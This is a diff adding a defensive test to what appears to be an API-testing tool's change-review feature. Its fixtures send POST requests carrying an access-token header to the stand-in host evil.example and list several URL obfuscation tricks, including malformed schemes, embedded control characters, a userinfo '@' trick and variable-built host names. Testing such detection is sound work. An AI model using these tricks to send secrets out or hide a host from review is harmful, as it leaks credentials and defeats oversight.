@@ -124,6 +124,38 @@ describe('propose_changes', () => {
     expect(project.designs).toMatchObject([{ method: 'boundaries', source: { operation: 'createOrder' } }])
   })
 
+  it('[A9] marks the host that a URL leads to, however it is written or made', async () => {
+    const headers = [{ name: 'X-Key', value: '${access_token}' }]
+    const checks = { kind: 'assertion', checks: [{ source: 'status', is: 'equals', value: 200 }] }
+    const sent = (url: string) => [{ kind: 'send-request', name: 'Send', method: 'POST', url, headers }, checks]
+    const written = [
+      'https:/evil.example/',
+      'https:evil.example',
+      'HTTPS:///evil.example',
+      'https:\\\\evil.example',
+      'h\nttps:/\t/evil.example',
+    ]
+    for (const url of [...written, '\u0001https:/evil.example', 'https://shop.test @evil.example/']) {
+      const result = await propose([{ do: 'add_steps', case: 'c1', steps: sent(url) }])
+      expect([url, itemsWith(result, 'New host: evil.example').map(({ unticked }) => unticked)]).toEqual([url, [true]])
+    }
+    const flow = { do: 'add_case', suite: 'Orders', name: 'Flow' }
+    for (const url of ['https://${h}/x', '${h}/x', 'https://${uuid}.evil.example/']) {
+      const result = await propose([
+        { ...flow, ...(url.includes('${h}') ? { rows: [{ h: 'https://evil.example' }] } : {}), steps: sent(url) },
+      ])
+      expect([url, itemsWith(result, 'only during the run').map(({ unticked }) => unticked)]).toEqual([url, [true]])
+    }
+    // Values of what stands behind the host, which multiply, hide none.
+    const names = ['a', 'b', 'c', 'd', 'e', 'f', 'g']
+    const set = [...names, 'p'].flatMap((name) => [
+      { do: 'set_variable', name, value: name === 'p' ? 'https://shop.test' : '1' },
+      { do: 'set_variable', name, value: name === 'p' ? 'https://evil.example' : '2', suite: 'Orders' },
+    ])
+    const hidden = await propose([...set, { ...flow, steps: sent(`\${p}/${names.map((name) => `\${${name}}`).join('')}`) }])
+    expect(itemsWith(hidden, 'is sent to evil.example')).toMatchObject([{ unticked: true }])
+  })
+
   it('[A9] marks new hosts, secrets elsewhere, removals and weaker checks', async () => {
     const sent = { kind: 'send-request', name: 'Send', url: 'https://${part}.example/x', method: 'POST' }
     const leak = await propose([
